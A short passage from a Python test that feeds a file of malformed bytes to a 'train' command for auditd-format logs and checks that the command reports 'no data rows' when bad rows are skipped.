    data.write_bytes(b"garbage\n\xff\xfe\x01\nmore garbage\n")
    one_line_error(["train", str(data), "--format", "auditd", "--on-bad-rows", "skip", "-o",
                    str(tmp_path / "m")], "no data rows", tmp_path / "m")
